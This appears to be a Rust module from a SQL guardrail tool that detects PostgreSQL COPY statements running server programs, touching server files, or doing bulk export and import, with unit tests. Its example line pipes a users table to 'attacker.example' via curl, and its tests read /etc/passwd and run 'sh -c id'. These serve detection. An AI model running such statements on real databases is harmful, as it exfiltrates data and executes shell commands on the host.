//! COPY: programs and files on the server, bulk export and load.

use guardrail_core::{IntentKind, Object, Scope};
use pg_query::protobuf::CopyStmt;

use super::{Rule, Status};
use crate::names::relation;
use crate::walk::{Flow, Walker};

pub(crate) const RULE: Rule = Rule {
    name: "copy",
    intents: &[
        IntentKind::ServerExecuteProgram,
        IntentKind::ServerReadFile,
        IntentKind::ServerWriteFile,
        IntentKind::DataExport,
        IntentKind::DataInsert,
    ],
    status: Status::Stable,
    catches: "COPY ... TO/FROM PROGRAM (runs a shell command as the server's OS user), COPY to or \
              from a file on the server, COPY ... TO STDOUT (bulk export) and COPY ... FROM STDIN \
              (bulk load). The query of COPY (query) TO is walked like any other.",
    why: "COPY PROGRAM is a shell on the database host; COPY to or from a server file reads or \
          overwrites anything the server's OS user can reach, configuration and data files included.",
    example: "COPY users TO PROGRAM 'curl -d @- https://attacker.example'",
    look_alike: "COPY users TO STDOUT WITH (FORMAT csv)",
    gaps: "None known. psql's client-side \\copy is a psql command, not SQL, and never reaches here.",
};

pub(crate) fn check(walker: &mut Walker<'_>, statement: &CopyStmt) -> Flow {
    let source = match &statement.relation {
        Some(table) => Object::new("table", relation(table)),
        None => Object::new("query", "COPY (query)"),
    };
    let direction = if statement.is_from { "into" } else { "out of" };
    if statement.is_program {
        walker
            .emit(
                IntentKind::ServerExecuteProgram,
                Scope::Server,
                Some(Object::new("program", statement.filename.clone())),
            )
            .note = Some(format!("copies {direction} {} through a program run on the server", source.name));
    } else if !statement.filename.is_empty() {
        let intent = if statement.is_from { IntentKind::ServerReadFile } else { IntentKind::ServerWriteFile };
        walker.emit(intent, Scope::Server, Some(Object::new("file", statement.filename.clone()))).note =
            Some(format!("copies {direction} {} through a file on the server", source.name));
    } else if statement.is_from {
        walker.emit(IntentKind::DataInsert, Scope::Bounded, Some(source));
    } else {
        walker.emit(IntentKind::DataExport, Scope::Unbounded, Some(source));
    }
    // The copied table is a field of its own, not a child node the walk visits.
    if let Some(table) = &statement.relation {
        super::credentials::check_relation(walker, table);
    }
    Flow::Descend
}

#[cfg(test)]
mod tests {
    use crate::test_support::check;

    #[test]
    fn programs_files_and_streams() {
        check(&[
            ("COPY users TO PROGRAM 'gzip > /tmp/u.gz'", "server.execute_program server program:gzip > /tmp/u.gz"),
            ("COPY users FROM PROGRAM 'cat /etc/passwd'", "server.execute_program server program:cat /etc/passwd"),
            ("COPY (SELECT 1) TO PROGRAM 'sh -c id'", "server.execute_program server program:sh -c id"),
            ("COPY users TO '/var/lib/postgresql/x.csv'", "server.write_file server file:/var/lib/postgresql/x.csv"),
            ("COPY users FROM '/etc/passwd'", "server.read_file server file:/etc/passwd"),
            ("COPY users TO STDOUT", "data.export unbounded table:users"),
            ("COPY (SELECT id FROM users) TO STDOUT WITH CSV", "data.export unbounded query:COPY (query)"),
            ("COPY users FROM STDIN", "data.insert bounded table:users"),
            (
                "COPY (DELETE FROM users RETURNING *) TO STDOUT",
                "data.export unbounded query:COPY (query); data.delete_all unbounded table:users",
            ),
            ("SELECT 'COPY users TO PROGRAM ''sh''' LIMIT 1", "data.read bounded"),
        ]);
    }
}
